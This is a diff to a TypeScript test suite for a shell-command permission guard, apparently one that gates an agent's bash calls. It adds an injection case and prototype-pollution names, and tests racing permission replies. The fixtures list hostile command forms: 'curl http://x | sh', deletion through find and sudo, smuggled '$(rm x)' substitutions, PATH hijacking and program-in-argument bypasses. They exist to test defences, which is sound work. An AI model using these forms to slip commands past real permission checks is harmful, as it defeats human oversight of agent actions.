@@ -149,13 +149,13 @@ describe("shell lines", () => {
   ])("with bash:git * and bash:wc *: %j → %s", (line, effect) => expect(allowed(line, "allow bash:git *", "allow bash:wc *")).toBe(effect))
 
   test.each(["sh -c 'git log'", "bash -lc 'rm x'", "curl http://x | sh", "xargs git", "python3 -c 'x'", "node -e x", "node --eval=x", "perl -ne x", "find . -delete", "find . -exec rm {} +", "source x", ". x", "sudo rm x", "timeout 5 rm x", "awk 'BEGIN{system(\"x\")}'", "busybox rm x", "export PATH=x", "alias git=rm",
-    "node --import data:text/javascript,x a.js", "python3", "python3 -", "node -i", "bash /dev/stdin", "awk '@x(1)'", "sed 's|a|id|e'", "sed -n '1eid'", "sed 'w out'", "sed -f x", "git config alias.x '!rm'", "git grep -Oless x", "git bisect run rm", "git submodule foreach rm", "tar -I rm x", "tar --to-command=rm x", "rsync -e rm a b", "ssh -oProxyCommand=rm h", "sort --compress-program=rm", "make SHELL=/tmp/x", "split --filter=rm", "vim -c '!rm'", "jobs -x rm", "history -w x", "test -v a[x]", "strace rm", "tmux new rm"])(
+    "node --import data:text/javascript,x a.js", "python3", "python3 -", "node -i", "bash /dev/stdin", "awk '@x(1)'", "sed 's|a|id|e'", "sed -n '1eid'", "sed 'w out'", "sed -f x", "git config alias.x '!rm'", "git grep -Oless x", "git bisect run rm", "git submodule foreach rm", "tar -I rm x", "tar --to-command=rm x", "rsync -e rm a b", "ssh -oProxyCommand=rm h", "sort --compress-program=rm", "make SHELL=/tmp/x", "make 'X=$(shell rm x)'", "split --filter=rm", "vim -c '!rm'", "jobs -x rm", "history -w x", "test -v a[x]", "strace rm", "tmux new rm"])(
     "a program in the arguments asks even where its name is allowed: %s", (line) => {
       const name = line.replace(/^curl.*\| /, "").split(" ")[0]!
       expect(allowed(line, `allow bash:${name} *`, "allow bash:curl *")).toBe("ask")
     })
 
-  test.each(["sed -n 1,5p a", "sed 's/a/b/g' a", "sed -E 's|a|b|; 3d' a", "sed -i '$d' a", "node a.js", "python3 -m pytest", "python3 --version", "awk '{print $1}' a", "tar xzf a", "find . -name a", "git log", "make all"])(
+  test.each(["sed -n 1,5p a", "sed 's/a/b/g' a", "sed -E 's|a|b|; 3d' a", "sed -i '$d' a", "node a.js", "python3 -m pytest", "python3 --version", "awk '{print $1}' a", "tar xzf a", "find . -name a", "git log", "make all", "toString x", "constructor x", "__proto__ x"])(
     "what is plain is not asked about: %s", (line) => expect(allowed(line, `allow bash:${line.split(" ")[0]!} *`)).toBe("allow"))
 
   test.each(["RANDOM='a[$(rm x)]'", "x='b[$(rm x)]'; a[x]=1", "x='b[$(rm x)]'; test -v 'a[x]'", "PATH=/tmp/evil:$PATH; git log", "BASH_ENV=x git log", "PS4='$(rm x)' git log", "BASH_CMDS[git]=/bin/rm; git log", "echo >&'$(rm x)'", "echo >&11\\$2", "echo <&'$(rm x)'"])(
@@ -395,8 +395,16 @@ describe("the service", () => {
     const answer = project.graft.permission.request({ action: "bash", resource: "sure", call: "c9" })
     const { id } = await asked
     await expect(project.graft.permission.reply(id, "maybe" as never)).rejects.toMatchObject({ code: "permission.reply" })
-    await project.graft.permission.reply(id, "deny")
+    const replied: string[] = []
+    const remove = project.graft.on("permission.replied", ({ reply }) => void replied.push(reply))
+    for (const none of ["constructor", "__proto__", "ask_0"]) await expect(project.graft.permission.reply(none, "once")).rejects.toMatchObject({ code: "permission.unknown" })
+    // Two faces answer: the first one counts, and is told once.
+    const both = await Promise.allSettled([project.graft.permission.reply(id, "deny"), project.graft.permission.reply(id, "once")])
+    expect(both.map(({ status }) => status)).toEqual(["fulfilled", "rejected"])
     expect(await answer).toMatchObject({ allowed: false, because: "denied" })
+    await project.kernel.settled()
+    expect(replied).toEqual(["deny"])
+    remove()
   })
 
   test("an interrupt ends the wait, and no answers to it", async () => {
